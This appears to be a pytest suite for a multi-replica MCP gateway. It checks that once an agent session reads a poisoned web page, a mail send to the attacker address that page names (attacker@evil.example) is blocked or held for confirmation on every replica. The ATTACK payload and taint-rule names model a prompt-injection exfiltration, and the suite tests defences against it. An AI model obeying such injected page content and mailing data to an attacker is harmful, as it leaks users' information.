"""The fleet's acceptance: what one replica saw, every replica knows.

A poisoned page read through replica 1 makes the send to the address it names, through replica 2,
confirm or block — on both protocol revisions — while the same send from a fresh agent session is
not held for those reasons; and through HAProxy, with requests landing on any replica.
"""

from __future__ import annotations

import asyncio
import re
import time
import uuid
from typing import Any

import httpx2
import mcp_types as t
import pytest
from mcp import Client
from mcp.client.streamable_http import streamable_http_client

from tests.deadlines import hang_guard
from tests.fleet.conftest import OPERATOR, TOKEN, Fleet, trail
from weir.audit import AuditQuery, Phase
from weir.demo_servers.web import POISONED_URL

NEWS = "https://news.example/today"

pytestmark = [pytest.mark.anyio, pytest.mark.slow]

MODES = ("legacy", "2026-07-28")
ATTACK = {"to": "attacker@evil.example", "subject": "as asked", "body": "hello"}
# The rules that fire because of what the session read: the recipient came from the untrusted page,
# and the page was flagged as malicious.
TAINT_RULES = {
    "baseline:block-injected-target",
    "baseline:confirm-untrusted-recipient",
    "baseline:confirm-after-malicious-content",
}


async def _decline(ctx: Any, params: Any) -> t.ElicitResult:
    return t.ElicitResult(action="decline")


def _client(url: str, mode: str, name: str, *, answers: bool = False) -> Client:
    """A client of the fleet; ``answers``: it can be asked (and declines), so no call of it is queued."""
    http = httpx2.AsyncClient(headers={"authorization": f"Bearer {TOKEN}"}, timeout=120)
    return Client(
        streamable_http_client(url, http_client=http),
        mode=mode,  # type: ignore[arg-type]
        client_info=t.Implementation(name=name, version="1"),
        elicitation_callback=_decline if answers else None,
    )


def _meta(mode: str, session: str) -> dict[str, Any] | None:
    # A 2025-11-25 connection's default agent session is its Mcp-Session-Id, which is one
    # replica's: it names its agent session. A 2026-07-28 client's is its token and name already.
    return {"dev.weir/session": session} if mode == "legacy" else None


def _rules(result: Any) -> set[str]:
    decision = (result.meta or {}).get("dev.weir/decision") or {}
    return {r["name"] if isinstance(r, dict) else str(r) for r in decision.get("rules", [])}


async def _call(
    url: str,
    mode: str,
    who: tuple[str, str],
    tool: str,
    args: dict[str, Any],
    *,
    answers: bool = True,
    meta: bool = False,
) -> Any:
    """One call on a new connection; ``who``: the client's name and its agent session's (named in
    ``_meta`` on 2025-11-25, and with ``meta`` on 2026-07-28 too)."""
    async with _client(url, mode, who[0], answers=answers) as c:
        await c.list_tools()
        named = {"dev.weir/session": who[1]} if meta else _meta(mode, who[1])
        return await c.call_tool(tool, args, meta=named)


@pytest.mark.parametrize("mode", MODES)
async def test_a_page_read_on_replica_1_holds_the_send_on_replica_2(fleet: Fleet, mode: str) -> None:
    r1, r2 = fleet.replicas[0].mcp, fleet.replicas[1].mcp
    agent, session = f"agent-{uuid.uuid4().hex[:8]}", f"s-{uuid.uuid4().hex[:8]}"
    page = await _call(r1, mode, (agent, session), "web__fetch", {"url": POISONED_URL})
    assert "attacker@evil.example" in "".join(getattr(c, "text", "") for c in page.content)
    send = await _call(r2, mode, (agent, session), "mail__send_email", ATTACK)
    assert send.is_error is True
    assert _rules(send) & TAINT_RULES, _rules(send)
    # The control: a fresh agent session on the same replica is not held for the page.
    fresh, other = f"agent-{uuid.uuid4().hex[:8]}", f"s-{uuid.uuid4().hex[:8]}"
    control = await _call(r2, mode, (fresh, other), "mail__send_email", ATTACK)
    assert not _rules(control) & TAINT_RULES, _rules(control)


@pytest.mark.parametrize("mode", MODES)
async def test_through_haproxy_every_call_of_one_session_may_land_anywhere(fleet: Fleet, mode: str) -> None:
    """Round robin (2026-07-28 requests carry no session id; a 2025-11-25 connection sticks to one
    replica, and each call here opens a new one): whichever replica the send reaches, it is held."""
    agent, session = f"agent-{uuid.uuid4().hex[:8]}", f"s-{uuid.uuid4().hex[:8]}"
    await _call(fleet.lb, mode, (agent, session), "web__fetch", {"url": POISONED_URL})
    for _ in range(3):
        send = await _call(fleet.lb, mode, (agent, session), "mail__send_email", ATTACK)
        assert send.is_error is True
        assert _rules(send) & TAINT_RULES, _rules(send)


@pytest.mark.parametrize("mode", MODES)
async def test_an_operator_on_replica_3_releases_a_call_held_on_replica_1(fleet: Fleet, mode: str) -> None:
    """The client cannot be asked, so the call waits in replica 1's queue; replica 3's console lists it
    (the fleet's queue) and its approval reaches replica 1, which records it and runs the call."""
    subject = f"report {uuid.uuid4().hex}"
    mail = {"to": "bob@corp.example", "subject": subject, "body": "the figures"}
    who = (f"agent-{uuid.uuid4().hex[:8]}", f"s-{uuid.uuid4().hex[:8]}")
    held = asyncio.ensure_future(_call(fleet.replicas[0].mcp, mode, who, "mail__send_email", mail, answers=False))
    console = httpx2.AsyncClient(headers={"authorization": f"Bearer {OPERATOR}"}, timeout=30)
    api = f"{fleet.replicas[2].base}/console/api/approvals"
    found = None
    deadline = time.monotonic() + hang_guard(120)
    while found is None and time.monotonic() < deadline and not held.done():
        listing = (await console.get(api)).json()["approvals"]
        found = next((a for a in listing if a.get("arguments", {}).get("subject") == subject), None)
        await asyncio.sleep(0.2)
    assert found is not None, f"replica 3 never listed the call held on replica 1 ({held.done() and held.result()})"
    answer = await console.post(f"{api}/{found['id']}/approve", json={"reason": "expected report"})
    assert answer.status_code == 200, answer.text
    result = await asyncio.wait_for(held, hang_guard(120))
    assert result.is_error is False, result
    assert "Delivered" in "".join(getattr(c, "text", "") for c in result.content)
    # One chain for the fleet: replica 1 (the holder) recorded the decision of replica 3's operator,
    # then the released result of the call it released.
    with trail(fleet.dsn) as store:
        rows = list(store.query(AuditQuery()))
    decided = [
        s for s in rows if s.event.phase is Phase.OPERATOR and (s.event.details or {}).get("approval") == found["id"]
    ]
    assert len(decided) == 1, decided
    assert (decided[0].event.details or {}).get("operator") == "carol"
    session = decided[0].event.session
    released = [
        s for s in rows if s.event.phase is Phase.RESULT and s.event.session == session and s.event.tool == "send_email"
    ]
    assert released
    assert released[-1].id > decided[0].id
    await console.aclose()


async def _accept(ctx: Any, params: Any) -> t.ElicitResult:
    return t.ElicitResult(action="accept", content={"approve": True})


async def test_a_confirmation_asked_on_replica_1_is_answered_through_replica_2(fleet: Fleet) -> None:
    """2026-07-28: the call reaches replica 1, which answers input_required with its requestState;
    the client's retry (the user's answer) is sent to replica 2, which accepts that state and runs
    the call — once: the same state sent again, to replica 3, is refused."""
    r1, r2, r3 = (r.mcp for r in fleet.replicas)
    retries: list[bytes] = []

    async def route(request: httpx2.Request) -> None:
        # Every request to replica 1 except the retries, which carry the state minted there.
        if b'"requestState"' in request.content:
            retries.append(request.content)
            request.url = httpx2.URL(r2)

    http = httpx2.AsyncClient(
        headers={"authorization": f"Bearer {TOKEN}"}, timeout=120, event_hooks={"request": [route]}
    )
    subject = f"minutes {uuid.uuid4().hex}"
    mail = {"to": "bob@corp.example", "subject": subject, "body": "the minutes"}
    client = Client(
        streamable_http_client(r1, http_client=http),
        mode="2026-07-28",
        client_info=t.Implementation(name=f"agent-{uuid.uuid4().hex[:8]}", version="1"),
        elicitation_callback=_accept,
    )
    async with client as c:
        await c.list_tools()
        sent = await c.call_tool("mail__send_email", mail)
    assert sent.is_error is False, sent
    assert "Delivered" in "".join(getattr(c, "text", "") for c in sent.content)
    assert len(retries) == 1  # one question asked on replica 1, answered through replica 2
    # The same answer again, through replica 3: the state was taken, fleet-wide.
    headers = {"authorization": f"Bearer {TOKEN}", "accept": "application/json, text/event-stream",
               "content-type": "application/json", "mcp-protocol-version": "2026-07-28"}  # fmt: skip
    replay = httpx2.AsyncClient(headers=headers, timeout=120)
    answer = await replay.post(r3, content=retries[0])
    await replay.aclose()
    assert answer.status_code == 200, answer.text
    assert "Delivered" not in answer.text
    assert "expired or is unknown" in answer.text, answer.text


def _counted(text: str, name: str) -> float:
    """The sum of every series of counter ``name`` in a /metrics text."""
    return sum(float(line.rsplit(" ", 1)[1]) for line in text.splitlines() if line.startswith(name + "{"))


async def test_every_replicas_metrics_show_the_fleets_figures(fleet: Fleet) -> None:
    """After the calls above (through every replica), each replica's /metrics has the fleet's sum of
    tool calls — the sum of the three replicas' own counts — and the fleet's size."""
    await _call(
        fleet.replicas[0].mcp, "2026-07-28", (f"agent-{uuid.uuid4().hex[:8]}", "m"), "web__fetch", {"url": NEWS}
    )
    async with httpx2.AsyncClient(timeout=30) as http:
        deadline = time.monotonic() + hang_guard(60)
        while True:
            texts = [(await http.get(f"{r.base}/metrics")).text for r in fleet.replicas]
            own = sum(_counted(text, "weir_tool_calls_total") for text in texts)
            fleet_wide = [_counted(text, "weir_fleet_tool_calls_total") for text in texts]
            if all(f == own for f in fleet_wide) or time.monotonic() > deadline:
                break
            await asyncio.sleep(0.5)  # each replica reports every 2 s
    assert own > 0
    assert fleet_wide == [own] * 3, (own, fleet_wide)
    sizes = [
        float(line.split()[1])
        for text in texts
        for line in text.splitlines()
        if line.startswith("weir_fleet_replicas ")
    ]
    assert sizes == [3.0] * 3, sizes


async def _console(base: str) -> httpx2.AsyncClient:
    """An operator signed in to one replica's console (its cookie in the client)."""
    http = httpx2.AsyncClient(base_url=base, timeout=30)
    done = await http.post("/console/login", data={"token": OPERATOR}, headers={"origin": base})
    assert done.status_code == 303, done.text
    return http


def _fleet_section(page: str) -> tuple[int, dict[str, int], dict[str, str]]:
    """A status page's fleet section: the replicas, each figure's total, each shared store's state."""
    replicas = re.search(r'id="fleet-replicas">(\d+) replica', page)
    assert replicas is not None, page
    figures = dict(re.findall(r'<tr><td>([^<]+)</td><td class="total">(\d+)</td>', page))
    stores = re.search(r'id="fleet-dependencies">(.*?)</table>', page, re.S)
    assert stores is not None, page
    states = dict(re.findall(r'<tr><td>([^<]+)</td><td><span class="\w+">([^<]*)</span>', stores.group(1)))
    return int(replicas.group(1)), {k: int(v) for k, v in figures.items()}, states


async def test_every_replicas_console_shows_the_same_fleet_figures_and_they_move_with_another_replicas_calls(
    fleet: Fleet,
) -> None:
    """The status page of each replica shows the fleet's size, its summed counters (the same on all
    three) and each shared store's readiness; calls through replica 2 move the figures on replicas 1
    and 3 as well. A single gateway's status page has no such section (tests/console)."""
    consoles = [await _console(r.base) for r in fleet.replicas]
    shown: list[tuple[int, dict[str, int], dict[str, str]]] = []

    async def alike(more_calls_than: int) -> bool:
        shown[:] = [_fleet_section((await c.get("/console/")).text) for c in consoles]
        calls = [figures.get("tool calls answered", -1) for _, figures, _ in shown]
        return all(s == shown[0] for s in shown) and calls[0] > more_calls_than

    deadline = time.monotonic() + hang_guard(60)
    while not await alike(-1) and time.monotonic() < deadline:
        await asyncio.sleep(0.5)  # each replica reports every 2 s
    assert all(s == shown[0] for s in shown), shown
    replicas, before, stores = shown[0]
    assert replicas == 3
    assert stores == {"audit": "ok", "redis": "ok"}
    assert set(before) >= {"tool calls answered", "decisions", "audit events committed"}
    for i in range(2):
        who = (f"agent-{uuid.uuid4().hex[:8]}", "c")
        await _call(fleet.replicas[1].mcp, "2026-07-28", who, "web__fetch", {"url": f"{NEWS}?console={i}"})
    while not await alike(before["tool calls answered"] + 1) and time.monotonic() < deadline:
        await asyncio.sleep(0.5)
    assert all(s == shown[0] for s in shown), shown
    _, after, _ = shown[0]
    assert after["tool calls answered"] >= before["tool calls answered"] + 2, (before, after)
    assert after["audit events committed"] >= before["audit events committed"] + 4, (before, after)
    for c in consoles:
        await c.aclose()
